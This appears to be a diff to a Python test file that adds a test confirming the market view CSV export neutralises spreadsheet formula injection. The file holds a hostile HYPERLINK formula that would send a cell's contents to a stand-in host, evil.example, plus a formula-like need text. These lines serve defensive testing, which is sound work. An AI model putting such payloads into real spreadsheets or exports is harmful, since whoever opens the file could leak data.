@@ -16,6 +16,7 @@ from openpyxl import Workbook, load_workbook
 from directsupport.funds import ledger
 from directsupport.funds.models import Fund, Kind
 from directsupport.lib.exports import csv_bytes, safe_text, xlsx_append, xlsx_bytes
+from directsupport.market.tests.factories import SupportNeedFactory
 from directsupport.people.models import Person
 
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&C2,"Click me")'
@@ -148,4 +149,15 @@ def test_the_audit_log_csv_keeps_a_hostile_name_as_text(client_for, manager, hos
     rows = _csv_rows(b"".join(response.streaming_content))
     names = [row[6] for row in rows[1:] if row[5] == str(hostile_dee.pk)]
     assert names and all(name.startswith(NEUTRALISED) for name in names)
+    _assert_no_formula_in_csv(rows)
+
+
+def test_the_market_view_csv_keeps_a_hostile_name_as_text(client_for, market_shaper, hostile_dee):
+    SupportNeedFactory.create(person=hostile_dee, what="-2+3 a hostile need too")
+    response = client_for(market_shaper).get(reverse("market:market_view_csv"))
+    assert response.status_code == 200
+    rows = _csv_rows(response.content)
+    gaps = [row for row in rows if row[0] == "Need nobody can meet"]
+    assert gaps and gaps[0][13].startswith(NEUTRALISED)
+    assert gaps[0][14] == "'-2+3 a hostile need too"
     _assert_no_formula_in_csv(rows)
